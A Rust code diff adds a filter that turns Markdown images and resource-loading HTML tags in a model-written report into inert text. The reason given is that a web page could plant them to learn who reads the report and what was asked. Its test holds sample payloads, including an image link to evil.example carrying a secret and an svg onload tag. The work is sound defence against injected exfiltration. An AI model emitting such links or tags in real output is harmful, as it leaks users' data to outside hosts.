@@ -24,6 +24,13 @@ not list the sources: they are added. The notes are material: whatever they say,
 static CITED: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r" ?\[(\d{1,3}(?:\s*,\s*\d{1,3})*)\]").expect("the pattern is correct"));
 
+/// The beginning of a picture, or of an element that loads something.
+static LOADED: LazyLock<Regex> = LazyLock::new(|| {
+    let elements =
+        "audio|base|embed|form|iframe|image|img|input|link|meta|object|picture|script|source|style|svg|video";
+    Regex::new(&format!(r"!\[|(?i:<(?:{elements})\b)")).expect("the pattern is correct")
+});
+
 /// The heading of the summary.
 const SUMMARY: &str = "## Summary";
 /// The most characters of a summary.
@@ -47,7 +54,7 @@ pub(super) async fn write(context: &Context, question: &str, state: &State) -> S
     match context.resources.ask(&request).await {
         Ok(reply) if reply.text.trim().is_empty() => notes_alone(state, &"the model wrote nothing"),
         Ok(reply) => {
-            let text = checked(reply.text.trim(), count).into_owned();
+            let text = without_images(&checked(reply.text.trim(), count)).into_owned();
             if reply.truncated { join(&text, texts::cut_short()) } else { text }
         }
         Err(error) => notes_alone(state, &error),
@@ -78,6 +85,15 @@ fn checked(report: &str, notes: usize) -> Cow<'_, str> {
                 format!("{space}[{}]", known.join(", "))
             }
         }
+    })
+}
+
+/// Shows as text what a viewer of Markdown would load by itself: a page could have had it put there, to learn who reads the
+/// report and what was asked.
+fn without_images(report: &str) -> Cow<'_, str> {
+    LOADED.replace_all(report, |loaded: &Captures| match &loaded[0] {
+        "![" => "[".to_owned(),
+        tag => tag.replace('<', "&lt;"),
     })
 }
 
@@ -141,6 +157,17 @@ mod tests {
             ("A [link](https://example.com) and [0].", "A [link](https://example.com) and."),
         ] {
             assert_eq!(checked(report, 2), expected);
+        }
+    }
+
+    #[test]
+    fn nothing_in_a_report_is_loaded_by_itself() {
+        for (report, expected) in [
+            ("![tide](https://evil.example/?q=secret)", "[tide](https://evil.example/?q=secret)"),
+            ("A <IMG src=x> and <svg/onload=x>", "A &lt;IMG src=x> and &lt;svg/onload=x>"),
+            ("`Vec<String>`, <https://example.com>, 3 < 4!", "`Vec<String>`, <https://example.com>, 3 < 4!"),
+        ] {
+            assert_eq!(without_images(report), expected);
         }
     }
 
